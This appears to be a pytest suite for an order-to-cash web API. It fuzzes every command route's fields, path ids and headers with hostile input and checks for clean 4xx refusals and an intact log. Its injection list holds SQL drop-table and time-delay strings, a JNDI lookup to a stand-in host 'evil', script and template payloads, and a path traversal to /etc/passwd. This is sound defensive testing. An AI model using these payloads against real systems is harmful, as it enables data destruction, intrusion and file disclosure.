"""Hostile input in every field of every command route, on SQLite and PostgreSQL.

Each command route has a valid body aimed at an object of its own (a lead to
qualify, an order to ship...). Every leaf field of that body (nested ones
too), every path parameter and the command headers are then replaced, one at
a time, by hostile values:

- values no field may take (wrong JSON types, numbers past any limit, NUL
  bytes, lone surrogates, over-long and 10 MB strings, huge arrays, deep
  nesting): refused with 4xx (413 for bodies over the limit) and nothing
  recorded (the log's head does not move);
- injection strings (SQL, template, script, path): refused with 4xx, or, in a
  free-text field, accepted and stored verbatim; either way never a 5xx and
  the log intact;
- malformed JSON and JSON with duplicate keys: refused with 4xx, nothing
  recorded;
- number spellings that are not plain ASCII decimals ("\u0661\u0662\u0663", a fullwidth 5, "1_000",
  ``1e-999999``, ``true`` as days): refused.

After each refused variant the head is unchanged; after the whole run, and
once the valid body has been shown to be accepted (so refusals were the
values' doing), every DESIGN.md invariant holds over the log.
"""

from __future__ import annotations

import json
import os
import urllib.parse
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date
from typing import Any

import pytest
from fastapi.testclient import TestClient

from o2c.application import O2C, Context
from support.books import Books
from support.figures import record

Path_ = tuple[str | int, ...]
#: CI tries each (field, value) pair on one of the two stores (both together cover every
#: pair); ``O2C_HOSTILE_FULL=1`` (scripts/reliability) tries every pair on both.
FULL = os.environ.get("O2C_HOSTILE_FULL") == "1"
ADMIN = "Bearer test-bootstrap-token"
JSON = {"Authorization": ADMIN, "Content-Type": "application/json"}

NUMERIC = {"quantity", "unit_price", "unit_cost", "counted_quantity", "amount", "credit_limit",
           "debit", "credit"}
DATES = {"expected_close_date", "date", "through"}
FREE_TEXT = {"name", "company", "source", "reason", "title", "memo", "note", "reference",
             "owner", "outcome"}

#: No field may take these.
NEVER: list[Any] = [True, {}, [], [[["deep"]]], 10**400, -(10**400), 1e308, -1e308,
                    "a\x00b", "\x00", "\ud800", "x" * 100_000]
#: Free text may hold these (stored verbatim); every other field must refuse them.
INJECTIONS = ["' OR '1'='1", "'); DROP TABLE o2c_events; --", "\"; DELETE FROM rm_accounts; --",
              "${jndi:ldap://evil/x}", "{{7*7}}", "<script>alert(1)</script>",
              "../../../../etc/passwd", "%00%27", "1; SELECT pg_sleep(10)"]
#: Not plain ASCII decimals (issue 10): every number field must refuse them.
NOT_DECIMALS = ["\u0661\u0662\u0663", "\uff15", "1_000", "0x10", "1e400", "Infinity", "NaN",
                "--1", "1.2.3"]


@dataclass
class Route:
    path: str
    body: dict[str, Any] | None
    ok: int


def _world(app: O2C) -> list[Route]:
    """One target per route, and a valid body for each."""
    ctx = Context(actor="hostile-setup")
    today = date.today().isoformat()
    app.register_stock_item(ctx, "HX-1", "Hostile sensor")
    app.receive_stock(ctx, "HX-1", "1000", "2.00")
    app.register_stock_item(ctx, "HX-2", "Hostile gateway")
    app.receive_stock(ctx, "HX-2", "50", "10.00")
    customer = app.register_customer(ctx, "Hostile Co", "ap@hostile.example").id
    leads = [app.capture_lead(ctx, "Lee", "Lead Co", "lee@lead.example", "web").id
             for _ in range(3)]
    opps = [app.open_opportunity(ctx, customer, "Deal", "1000.00", "2027-01-31").id
            for _ in range(3)]
    line = [{"sku": "HX-1", "quantity": "2", "unit_price": "9.99"}]

    def order(*steps: str) -> str:
        oid = app.place_sales_order(ctx, customer, line).id
        if "confirm" in steps:
            app.confirm_order(ctx, oid)
        if "ship" in steps:
            app.ship_order(ctx, oid, [{"sku": "HX-1", "quantity": "2"}])
        if "invoice" in steps:
            app.invoice_order(ctx, oid)
        return oid

    placed, placed2 = order(), order()
    held = order()  # released from credit control by finance
    confirmed, shipped = order("confirm"), order("confirm", "ship")
    invoiced, to_credit = order("confirm", "ship", "invoice"), order("confirm", "ship", "invoice")
    invoice_number = app.sales_order(to_credit).invoices[0]["invoice_number"]
    overpaid = order("confirm", "ship", "invoice")
    authorised = order("confirm", "ship", "invoice")
    app.authorise_return(ctx, authorised, [{"sku": "HX-1", "quantity": "1"}], "RMA-1 to cancel")
    app.pay_order(ctx, overpaid, "5000.00")  # leaves the customer credit to refund
    tasks = [app.log_activity(ctx, "lead", leads[0], "task", "Call back", due_date=today).id
             for _ in range(2)]
    entry = app.post_journal_entry(ctx, "seed", [{"account": "1000", "debit": "5.00"},
                                                 {"account": "3000", "credit": "5.00"}]).id
    return [
        Route("/leads", {"name": "Lee", "company": "Co", "email": "lee@co.example",
                         "source": "web"}, 201),
        Route(f"/leads/{leads[0]}/qualify", None, 200),
        Route(f"/leads/{leads[1]}/disqualify", {"reason": "no budget"}, 200),
        Route(f"/leads/{leads[2]}/convert", {
            "opportunity": {"title": "T", "amount": "100.00", "expected_close_date": today},
            "credit_limit": "500.00", "payment_terms_days": 30}, 201),
        Route("/customers", {"name": "C", "email": "c@c.example", "credit_limit": "100.00",
                             "payment_terms_days": 30}, 201),
        Route("/opportunities", {"customer_id": customer, "title": "T", "amount": "10.00",
                                 "expected_close_date": today}, 201),
        Route(f"/opportunities/{opps[0]}/stage", {"stage": "proposal"}, 200),
        Route(f"/opportunities/{opps[1]}/win", {"lines": line}, 201),
        Route(f"/opportunities/{opps[2]}/lose", {"reason": "price"}, 200),
        Route(f"/opportunities/{opps[0]}/quote", {"lines": line, "discount_percent": "5"}, 201),
        Route("/price-lists/default/prices", {"sku": "HX-1", "unit_price": "3.00",
                                              "effective_from": today}, 201),
        Route("/stock-items", {"sku": "HX-NEW", "name": "New"}, 201),
        Route("/stock-items/HX-1/receipts", {"quantity": "5", "unit_cost": "2.50"}, 201),
        Route("/stock-items/HX-2/adjustments", {"counted_quantity": "49", "reason": "count"},
              200),
        Route("/sales-orders", {"customer_id": customer, "lines": line}, 201),
        Route(f"/sales-orders/{placed}/confirm", None, 200),
        Route(f"/sales-orders/{confirmed}/shipments",
              {"lines": [{"sku": "HX-1", "quantity": "1"}]}, 201),
        Route(f"/sales-orders/{shipped}/invoices", None, 201),
        Route(f"/sales-orders/{invoiced}/payments", {"amount": "1.00", "reference": "ach"}, 201),
        Route(f"/sales-orders/{to_credit}/credit-notes",
              {"invoice_number": invoice_number, "reason": "wrong price"}, 201),
        Route(f"/sales-orders/{invoiced}/returns",
              {"lines": [{"sku": "HX-1", "quantity": "1"}], "reason": "wrong"}, 201),
        Route(f"/sales-orders/{authorised}/return-authorisations",
              {"lines": [{"sku": "HX-1", "quantity": "1"}], "reason": "wrong"}, 201),
        Route(f"/sales-orders/{authorised}/return-authorisations/RMA-1/cancel",
              {"reason": "kept"}, 200),
        Route(f"/sales-orders/{placed2}/cancel", {"reason": "changed plans"}, 200),
        Route(f"/customers/{customer}/refunds", {"amount": "1.00", "reference": "ach out",
                                                 "date": today}, 201),
        Route(f"/sales-orders/{held}/credit-release", {"reason": "prepaid"}, 200),
        Route(f"/customers/{customer}/credit-limit", {"credit_limit": "250000.00",
                                                      "reason": "review"}, 200),
        Route(f"/leads/{leads[0]}/activities", {"kind": "call", "note": "Intro", "outcome": "ok",
                                                "date": today}, 201),
        Route(f"/opportunities/{opps[0]}/activities", {
            "kind": "task", "note": "Quote", "due_date": today, "owner": "sam"}, 201),
        Route(f"/customers/{customer}/activities", {"kind": "meeting", "note": "Visit"}, 201),
        Route(f"/activities/{tasks[0]}/complete", {"outcome": "done", "date": today}, 200),
        Route(f"/activities/{tasks[1]}/reschedule", {"due_date": "2099-01-01"}, 200),
        Route("/ledger-accounts", {"code": "6100", "name": "Rent", "type": "expense"}, 201),
        Route("/journal-entries", {"memo": "m", "date": today, "lines": [
            {"account": "1000", "debit": "10.00"}, {"account": "3000", "credit": "10.00"}]},
              201),
        Route(f"/journal-entries/{entry}/reverse", {"memo": "undo"}, 201),
        Route("/periods/close", {"through": "2020-01-31", "note": "old"}, 200),
        Route("/periods/reopen", {"through": "2020-01-15", "reason": "late supplier bill"},
              200),
        Route("/periods/year-end", {"year": 2019}, 200),
    ]


def _leaves(body: Any, path: Path_ = ()) -> Iterator[Path_]:
    if isinstance(body, dict):
        for key, value in body.items():
            yield from _leaves(value, (*path, key))
    elif isinstance(body, list):
        for n, value in enumerate(body):
            yield from _leaves(value, (*path, n))
    else:
        yield path


def _with(body: Any, path: Path_, value: Any) -> Any:
    if not path:
        return value
    copy = json.loads(json.dumps(body))
    target = copy
    for step in path[:-1]:
        target = target[step]
    target[path[-1]] = value
    return copy


def _field(path: Path_) -> str:
    return next(str(p) for p in reversed(path) if isinstance(p, str))


@pytest.fixture
def world(api_app: O2C, client: TestClient) -> list[Route]:
    return _world(api_app)


def _send(client: TestClient, route: Route, raw: bytes | None = None, body: Any = None,
          path: str | None = None, headers: dict[str, Any] | None = None) -> Any:
    content = raw if raw is not None else (
        b"" if route.body is None and body is None else
        json.dumps(route.body if body is None else body).encode())
    return client.post(path or route.path, content=content, headers={**JSON, **(headers or {})})


def _mine(app: O2C, *what: object) -> bool:
    """Whether this store tries this (field, value) pair (every pair on one store at
    least; on both with ``O2C_HOSTILE_FULL=1``)."""
    if FULL:
        return True
    return zlib.crc32(repr(what).encode()) % 2 == int(app.db.postgres)


class Judge:
    """Sends a variant and checks the answer: 4xx and nothing recorded, or (when
    allowed) 2xx; never 5xx."""

    def __init__(self, app: O2C, client: TestClient) -> None:
        self.app, self.client = app, client
        self.sent = 0
        self.accepted: list[str] = []

    def refused(self, route: Route, what: str, may_accept: bool = False, **send: Any) -> None:
        head = self.app.db.head()
        response = _send(self.client, route, **send)
        self.sent += 1
        status = response.status_code
        assert status < 500, f"{route.path} {what}: {status} {response.text[:300]}"
        if 200 <= status < 300 and may_accept:
            self.accepted.append(f"{route.path} {what}")
            return
        assert 400 <= status < 500, f"{route.path} {what}: accepted ({status})"
        assert response.json().get("error"), response.text[:200]
        assert self.app.db.head() == head, f"{route.path} {what}: refused but recorded"

    def valid(self, route: Route) -> None:
        response = _send(self.client, route)
        assert response.status_code == route.ok, (route.path, response.text[:300])


def test_every_command_route_has_a_target(world: list[Route], client: TestClient) -> None:
    spec = client.get("/openapi.json").json()
    posts = {path for path, ops in spec["paths"].items() if "post" in ops}
    covered = set()
    for route in world:
        covered.add(next(p for p in posts if _matches(p, route.path)))
    assert covered == posts, f"command routes without hostile tests: {posts - covered}"


def _matches(template: str, path: str) -> bool:
    parts, actual = template.strip("/").split("/"), path.strip("/").split("/")
    return len(parts) == len(actual) and all(
        p == a or (p.startswith("{") and p.endswith("}")) for p, a in zip(parts, actual,
                                                                          strict=True))


def test_values_no_field_may_take(world: list[Route], api_app: O2C, client: TestClient
                                  ) -> None:
    judge = Judge(api_app, client)
    for route in world:
        leaves = list(_leaves(route.body)) if route.body else []
        # First what must be refused whatever the field...
        for leaf in leaves:
            for value in NEVER:
                if _mine(api_app, route.path, leaf, value):
                    judge.refused(route, f"{leaf}={str(value)[:20]!r}",
                                  body=_with(route.body, leaf, value))
            if _field(leaf) in NUMERIC:
                for value in ["9" * 400, 10**29, "0." + "1" * 60, -(10**30)]:
                    if _mine(api_app, route.path, leaf, value):
                        judge.refused(route, f"{leaf}={str(value)[:20]!r}",
                                      body=_with(route.body, leaf, value))
        if route.body:
            judge.refused(route, "an unknown field", body={**route.body, "is_admin": True})
        for value in ["x" * 300, "a\x00b", "\u202e\u0000", "'; DROP TABLE x; --", "../.."]:
            base = route.path.rsplit("/", 2)
            if len(base) == 3 and base[0]:  # a path with an id in it
                hostile = "/".join([base[0], urllib.parse.quote(value, safe=""), base[2]])
                judge.refused(route, f"path id {value[:12]!r}", path=hostile)
        # ...then the valid body is accepted (the refusals were the values' doing)...
        judge.valid(route)
        # ...then what free text may hold, and nulls (optional fields may be null).
        for leaf in leaves:
            for value in INJECTIONS:
                if _mine(api_app, route.path, leaf, value):
                    judge.refused(route, f"{leaf}={value!r}",
                                  may_accept=_field(leaf) in FREE_TEXT,
                                  body=_with(route.body, leaf, value))
            judge.refused(route, f"{leaf}=null", may_accept=True,
                          body=_with(route.body, leaf, None))
    Books(api_app).check()
    assert judge.sent > 400
    record("hostile-fields", store=(api_app.db.postgres and "postgres") or "sqlite",
           requests=judge.sent, accepted_free_text=len(judge.accepted))


def test_injections_in_free_text_are_stored_verbatim(api_app: O2C, client: TestClient) -> None:
    for value in INJECTIONS:
        created = client.post("/leads", headers=JSON, json={
            "name": value, "company": value, "email": "x@injection.example", "source": value})
        assert created.status_code == 201, created.text
        lead = client.get(f"/leads/{created.json()['id']}", headers=JSON).json()
        assert (lead["name"], lead["company"], lead["source"]) == (value, value, value)
    assert client.get("/audit/verify", headers=JSON).json()["ok"] is True
    Books(api_app).check()


def test_ten_megabyte_strings_in_every_field(world: list[Route], api_app: O2C,
                                             client: TestClient) -> None:
    judge = Judge(api_app, client)
    huge = "x" * 10_000_000
    for route in world:
        for leaf in _leaves(route.body) if route.body else [()]:
            head = api_app.db.head()
            response = _send(client, route, body=_with(route.body or {}, leaf or ("x",), huge))
            assert response.status_code == 413, (route.path, leaf, response.status_code)
            assert api_app.db.head() == head
            judge.sent += 1
    assert judge.sent >= len(world)


def test_huge_arrays_and_deep_nesting(world: list[Route], api_app: O2C,
                                      client: TestClient) -> None:
    judge = Judge(api_app, client)
    for route in world:
        if route.body is None:
            continue  # no body is read: anything sent is ignored
        for field in route.body:  # each top-level field (nested ones sit inside them)
            if not _mine(api_app, route.path, field):
                continue
            judge.refused(route, f"{field}: an array of 600 lines", body=_with(
                route.body, (field,), [{"sku": "HX-1", "quantity": "1",
                                        "unit_price": "1.00"}] * 600))
            judge.refused(route, f"{field}: an array over the body limit",
                          body=_with(route.body, (field,), [0] * 600_000))
        if not _mine(api_app, route.path, "nesting"):
            continue
        depth = 50_000
        judge.refused(route, "nesting 50,000 deep", raw=b"[" * depth + b"]" * depth)
        judge.refused(route, "objects nested 20,000 deep",
                      raw=b'{"a":' * 20_000 + b"1" + b"}" * 20_000)
        judge.refused(route, "a number with 100,000 digits",
                      raw=b'{"amount": ' + b"9" * 100_000 + b"}")


MALFORMED = [b"{", b"{'a': 1}", b"\xff\xfe\x00{", b"[1, 2", b'{"a": 1} trailing',
             b'{"a": 01}', b'{"a": .5}', b'{"a": "\\ud800"}', b"\x00", b'"just a string"',
             b"null", b"[]", b"123", b'{"a": Infinity}', b"true", b""]
#: JSON's non-standard constants as the whole body (Python's json module reads them).
NON_JSON_CONSTANTS = [b"NaN", b"Infinity", b"-Infinity"]


def test_malformed_json(world: list[Route], api_app: O2C, client: TestClient) -> None:
    judge = Judge(api_app, client)
    for route in world:
        if route.body is None:
            continue  # no body is read: anything sent is ignored
        for raw in MALFORMED:
            if _mine(api_app, route.path, raw):
                judge.refused(route, f"body {raw[:20]!r}", raw=raw)
        judge.refused(route, "a form instead of JSON", raw=b"a=1&b=2",
                      headers={"Content-Type": "application/x-www-form-urlencoded"})
        judge.refused(route, "JSON sent as text/plain", raw=json.dumps(route.body).encode(),
                      headers={"Content-Type": "text/plain"})


def test_non_json_constants_as_the_body(world: list[Route], api_app: O2C,
                                        client: TestClient) -> None:
    judge = Judge(api_app, client)
    for route in world:
        if route.body is not None:
            for raw in NON_JSON_CONSTANTS:
                judge.refused(route, f"body {raw!r}", raw=raw)


def test_hostile_command_headers(world: list[Route], api_app: O2C, client: TestClient) -> None:
    judge = Judge(api_app, client)
    for route in world[:6]:
        for key in ["k" * 201, "caf\u00e9", "a\x7fb"]:
            judge.refused(route, f"Idempotency-Key {key[:10]!r}",
                          headers={"Idempotency-Key": key.encode("utf-8")})
        for version in ["1" * 40, "-1", "1.5", "W/abc", "99999999999999999999"]:
            judge.refused(route, f"If-Match {version!r}", headers={"If-Match": version})
        judge.refused(route, "a bearer token of 10 kB",
                      headers={"Authorization": "Bearer " + "t" * 10_000})


def test_duplicate_keys_are_refused(world: list[Route], api_app: O2C,
                                    client: TestClient) -> None:
    judge = Judge(api_app, client)
    for route in world:
        if not route.body:
            continue
        for key in route.body:
            value = json.dumps(route.body[key])
            rest = json.dumps(route.body)[1:]
            raw = ("{" + json.dumps(key) + ": " + value + ", " + rest).encode()
            judge.refused(route, f"duplicate key {key!r}", raw=raw)


def test_numbers_are_plain_ascii_decimals(world: list[Route], api_app: O2C,
                                          client: TestClient) -> None:
    judge = Judge(api_app, client)
    for route in world:
        for leaf in _leaves(route.body) if route.body else []:
            name = _field(leaf)
            if name in NUMERIC:
                for value in NOT_DECIMALS:
                    judge.refused(route, f"{leaf}={value!r}", body=_with(route.body, leaf, value))
                raw = json.dumps(_with(route.body, leaf, "@@")).replace('"@@"', "1e-999999")
                judge.refused(route, f"{leaf}=1e-999999", raw=raw.encode())
            if name == "payment_terms_days":
                for days in [True, "30", 30.5, -1]:
                    judge.refused(route, f"{leaf}={days!r}", body=_with(route.body, leaf, days))
    customer = client.post("/customers", headers=JSON, json={
        "name": "Minus Zero", "email": "mz@x.example", "credit_limit": "-0"})
    if customer.status_code == 201:
        stored = client.get(f"/customers/{customer.json()['id']}", headers=JSON).json()
        assert not str(stored["credit_limit"]).startswith("-"), stored
